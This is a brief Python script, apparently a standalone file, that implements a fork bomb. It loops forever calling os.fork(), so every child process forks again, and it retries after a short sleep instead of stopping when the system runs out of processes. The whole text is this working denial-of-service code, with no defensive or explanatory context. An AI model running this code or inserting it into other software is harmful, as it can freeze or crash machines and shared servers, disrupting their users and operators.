"""Forks without end, and so does each fork; none gives up when there are no processes left."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.1)
